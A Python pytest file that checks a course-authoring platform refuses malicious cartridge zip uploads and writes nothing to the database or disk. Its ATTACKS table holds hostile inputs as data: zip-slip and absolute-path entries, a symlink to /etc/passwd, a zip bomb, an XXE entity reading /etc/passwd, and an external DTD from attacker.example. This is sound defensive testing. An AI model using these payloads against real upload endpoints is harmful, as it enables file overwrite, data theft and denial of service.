"""Untrusted uploads through the whole stack: each attack is refused with a clear reason, and nothing
is written: no course, unit, lesson, file or alignment row, and no file on disk."""
from __future__ import annotations

import io
import os
import stat
import tempfile
import zipfile

import pytest
from sqlalchemy import func, select

from authoring.interchange import jobs
from authoring.interchange.cartridges import CartridgeRejected, export_cartridge, import_cartridge
from authoring.interchange.models import InterchangeJob, JobStatus
from tests.fixtures.tenancy import make_org, make_user, sign_in

from .conftest import NOW, counts, make_course, make_zip, zip_entries


@pytest.fixture()
def good(db_session):
    """A real cartridge (images, quizzes, standards): accepted as it is, so each attack is the only fault."""
    org = make_org(db_session)
    course, _ = make_course(db_session, org)
    return zip_entries(export_cartridge(db_session, org, course, now=NOW).data)


def symlink(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def with_doctype(entries: dict[str, bytes], doctype: bytes) -> dict[str, bytes]:
    manifest = entries["imsmanifest.xml"].replace(b"?>\n", b"?>\n" + doctype + b"\n", 1)
    return {**entries, "imsmanifest.xml": manifest}


def non_utf8(entries: dict[str, bytes]) -> bytes:
    data = make_zip(*entries.items(), ("web_resources/caf?.png", b"x"))
    return data.replace(b"web_resources/caf?.png", b"web_resources/caf\xe9.png")


def duplicated(entries: dict[str, bytes]) -> bytes:
    with pytest.warns(UserWarning, match="Duplicate name"):
        return make_zip(*entries.items(), ("imsmanifest.xml", entries["imsmanifest.xml"]))


ATTACKS = {
    "zip-slip": (lambda e: make_zip(*e.items(), ("../../evil.html", b"<script>")), "outside the cartridge"),
    "absolute path": (lambda e: make_zip(*e.items(), ("/etc/cron.d/evil", b"x")), "absolute path"),
    "backslashes": (lambda e: make_zip(*e.items(), ("web_resources\\..\\..\\evil", b"x")), "backslash"),
    "symlink": (lambda e: make_zip(*e.items(), (symlink("web_resources/passwd"), b"/etc/passwd")), "symbolic link"),
    "zip bomb": (lambda e: make_zip(*e.items(), ("web_resources/zeros.bin", bytes(24 * 1024 * 1024))), "zip bomb"),
    "XXE": (lambda e: make_zip(*with_doctype(e, b'<!DOCTYPE manifest [<!ENTITY x SYSTEM "file:///etc/passwd">]>').items()), "DOCTYPE"),
    "external DTD": (lambda e: make_zip(*with_doctype(e, b'<!DOCTYPE manifest SYSTEM "http://attacker.example/x.dtd">').items()), "DOCTYPE"),
    "entity expansion": (lambda e: make_zip(*with_doctype(e, b'<!DOCTYPE m [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>').items()), "DOCTYPE"),
    "missing manifest": (lambda e: make_zip(*((n, d) for n, d in e.items() if n != "imsmanifest.xml")), "no imsmanifest.xml"),
    "duplicate manifest": (duplicated, "twice"),
    "non-UTF-8 name": (non_utf8, "not UTF-8"),
    "not a zip": (lambda e: b"%PDF-1.7 not a cartridge", "not a zip archive"),
}


def files_on_disk() -> set[str]:
    return set(os.listdir(tempfile.gettempdir())) | set(os.listdir(os.getcwd()))


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_is_refused_and_nothing_is_written(db_session, good, attack):
    build, message = ATTACKS[attack]
    payload = build(good)
    org = make_org(db_session)
    before, disk = counts(db_session), files_on_disk()
    with pytest.raises(CartridgeRejected, match=message) as info:
        import_cartridge(db_session, None, NOW, org, payload)
    assert info.value.status == 422 and info.value.errors["file"]
    db_session.flush()
    assert counts(db_session) == before and files_on_disk() <= disk


@pytest.mark.parametrize("attack", ["zip-slip", "XXE", "zip bomb", "missing manifest"])
def test_the_upload_form_reports_the_refusal(app, db_session, good, attack):
    org = make_org(db_session)
    author = make_user(db_session, org, "author")
    db_session.commit()
    client = sign_in(app.test_client(), author.email)
    before = counts(db_session)
    build, message = ATTACKS[attack]
    r = client.post(f"/o/{org.slug}/cartridges/import", data={"file": (_io(build(good)), "evil.imscc")},
                    content_type="multipart/form-data")
    assert r.status_code == 303
    page = client.get(r.headers["Location"])
    assert page.status_code == 200 and "Nothing was changed" in page.get_data(as_text=True)
    job = db_session.execute(select(InterchangeJob).where(InterchangeJob.organization_id == org.id)).scalar_one()
    assert job.status is JobStatus.failed and message.split()[0] in job.error and job.course_id is None
    assert counts(db_session) == before


def _io(data: bytes) -> io.BytesIO:
    return io.BytesIO(data)


def job_count(session, org) -> int:
    return session.execute(select(func.count()).select_from(InterchangeJob).where(InterchangeJob.organization_id == org.id)).scalar_one()


def test_an_oversized_upload_is_refused_before_it_is_read(app, db_session, good, monkeypatch):
    org = make_org(db_session)
    author = make_user(db_session, org, "author")
    db_session.commit()
    client = sign_in(app.test_client(), author.email)
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 20_000)
    before = counts(db_session)
    big = make_zip(*good.items(), ("web_resources/noise.bin", os.urandom(40_000)))
    r = client.post(f"/o/{org.slug}/cartridges/import", data={"file": (_io(big), "big.imscc")}, content_type="multipart/form-data")
    assert r.status_code == 413
    r = client.post(f"/api/v1/orgs/{org.slug}/cartridge-imports", data={"file": (_io(big), "big.imscc")},
                    content_type="multipart/form-data")
    assert r.status_code == 413 and r.get_json()["code"] == "request_entity_too_large"
    assert counts(db_session) == before
    assert job_count(db_session, org) == 0


def test_uploads_may_not_unpack_beyond_the_configured_size(app, db_session, good, monkeypatch):
    org = make_org(db_session)
    author = make_user(db_session, org, "author")
    db_session.commit()
    monkeypatch.setitem(app.config, "TOOLPATH_CC_MAX_UNPACKED_MB", 1)
    # Zeros: small on the wire (a big upload would make the test client leak its temp file), 1.5 MB unpacked.
    payload = make_zip(*good.items(), ("web_resources/big.bin", bytes(3 * 512 * 1024)))
    before = counts(db_session)
    r = sign_in(app.test_client(), author.email).post(
        f"/api/v1/orgs/{org.slug}/cartridge-imports", data={"file": (_io(payload), "big.imscc")}, content_type="multipart/form-data")
    assert r.status_code == 202 and r.get_json()["status"] == "failed" and "1 MB" in r.get_json()["error"]
    assert counts(db_session) == before


def test_a_failure_halfway_through_writing_rolls_everything_back(app, db_session, good, monkeypatch):
    """The course, units and files are flushed before lesson bodies are finished: a failure there
    must still leave nothing behind, and the job says it failed."""
    org = make_org(db_session)
    author = make_user(db_session, org, "author")
    db_session.commit()
    before = counts(db_session)

    def explode(self):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("authoring.interchange.cartridges.importer._Importer._finish_bodies", explode)
    job = jobs.create_import(db_session, author, NOW, org, "course.imscc", make_zip(*good.items()))
    db_session.commit()
    jobs.run(db_session, job.id, make_zip(*good.items()), progress_writer=None)
    db_session.expire_all()
    assert counts(db_session) == before
    job = db_session.get(InterchangeJob, job.id)
    assert job.status is JobStatus.failed and "nothing was changed" in job.error and job.course_id is None


def test_refused_requests_leave_no_job_behind(app, db_session):
    org = make_org(db_session)
    author = make_user(db_session, org, "author")
    db_session.commit()
    client = sign_in(app.test_client(), author.email)
    r = client.post(f"/o/{org.slug}/cartridges/import", data={}, content_type="multipart/form-data")
    assert r.status_code == 422 and "Choose a cartridge" in r.get_data(as_text=True)
    assert job_count(db_session, org) == 0
